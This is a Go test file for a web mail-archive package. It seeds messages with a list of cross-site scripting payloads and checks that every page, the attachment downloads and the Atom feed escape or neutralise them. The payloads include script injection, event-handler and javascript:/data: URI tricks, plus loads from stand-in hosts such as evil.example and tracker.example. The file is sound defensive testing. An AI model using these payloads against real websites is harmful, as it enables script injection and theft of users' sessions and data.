package archiveweb

import (
	"encoding/xml"
	"fmt"
	"mime"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// payloads are script and remote-load vectors put in every part of a
// message a page shows.
var payloads = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`<img src="http://tracker.example/pixel.gif">`,
	`<svg onload=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<div onmouseover="alert(1)">hover</div>`,
	`<body onload=alert(1)>`,
	`<style>body{background:url("javascript:alert(1)")}</style>`,
	`<div style="background-image: url(http://tracker.example/x)">x</div>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<link rel=stylesheet href="http://evil.example/x.css">`,
	`<form action="http://evil.example"><button formaction="javascript:alert(1)">x</button></form>`,
	`<object data="javascript:alert(1)"></object>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<!--<script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`</textarea></pre><script>alert(1)</script>`,
	`<details open ontoggle=alert(1)>`,
	`javascript:alert(1)`,
	`{{.}} {{template "x"}}`,
}

// xssMessage puts payload p in the subject, the author's name, the text
// part, an HTML-only alternative and an attachment's file name.
func xssMessage(i int, p string) post {
	enc := mime.QEncoding.Encode("utf-8", p)
	body := "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=xb\r\n\r\n" +
		"--xb\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nText " + p + "\r\n" +
		"--xb\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''" + url.PathEscape(p) + "\r\n\r\ndata\r\n" +
		"--xb--\r\n"
	if i%2 == 1 {
		// HTML only: shown through the sanitiser.
		body = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=xb\r\n\r\n" +
			"--xb\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>HTML " + p + "</p>\r\n" +
			"--xb\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"" + strings.NewReplacer(`"`, `'`, "\r", "", "\n", "").Replace(p) + ".html\"\r\n\r\n" + p + "\r\n" +
			"--xb--\r\n"
	}
	return post{id: fmt.Sprintf("xss%d@x", i), subject: enc, from: enc + " <x" + fmt.Sprint(i) + "@example.org>", date: march(1+i%27, 8), mime: body}
}

func TestXSSPayloadsAreEscapedOrSanitised(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	for i, p := range payloads {
		f.add(t, pubList, xssMessage(i, p))
	}
	pages := []string{"/", "/2024/03/", "/2024/03/?by=thread", "/2024/03/?by=author", "/search?q=alert", "/search?q=HTML"}
	for i := range payloads {
		pages = append(pages, fmt.Sprintf("/%d", i+1))
	}
	for _, who := range []string{anonymous, owner} {
		for _, p := range pages {
			body := mustStatus(t, f.get(t, who, "/archive/"+pubList+p), http.StatusOK)
			checkPage(t, body)
			if low := strings.ToLower(body); strings.Contains(low, "<script") || strings.Contains(low, "<img") || strings.Contains(low, "<svg") {
				t.Errorf("%s %s: markup from a message is live", who, p)
			}
		}
	}
	body := mustStatus(t, f.get(t, anonymous, "/archive/search?q=alert"), http.StatusOK)
	checkPage(t, body)
	// The HTML body made it through the sanitiser (text kept), and the
	// text body is escaped text.
	if body := f.get(t, anonymous, "/archive/"+pubList+"/2").Body.String(); !strings.Contains(body, `<div class="body html"><p>HTML `) {
		t.Errorf("HTML body not shown sanitised:\n%s", body)
	}
	if body := f.get(t, anonymous, "/archive/"+pubList+"/1").Body.String(); !strings.Contains(body, "Text &lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Errorf("text body not escaped:\n%s", body)
	}
	// Attachments with hostile names and HTML content are downloads.
	for i := range payloads {
		w := f.get(t, anonymous, fmt.Sprintf("/archive/%s/%d/attachments/0", pubList, i+1))
		if w.Code != http.StatusOK {
			t.Errorf("attachment of %d: %d", i+1, w.Code)
			continue
		}
		cd := w.Header().Get("Content-Disposition")
		disp, params, err := mime.ParseMediaType(cd)
		if err != nil || disp != "attachment" || strings.ContainsAny(params["filename"], "/\\\"\r\n\x00") {
			t.Errorf("attachment of %d: Content-Disposition %q (%v)", i+1, cd, err)
		}
		if ct := w.Header().Get("Content-Type"); ct != "application/octet-stream" {
			t.Errorf("attachment of %d: Content-Type %q", i+1, ct)
		}
	}
	// The feed is well-formed XML whatever the messages hold.
	var feed parsedFeed
	if err := xml.Unmarshal(f.get(t, anonymous, "/archive/"+pubList+"/feed.atom").Body.Bytes(), &feed); err != nil || len(feed.Entries) != len(payloads) {
		t.Fatalf("feed: %d entries, %v", len(feed.Entries), err)
	}
}
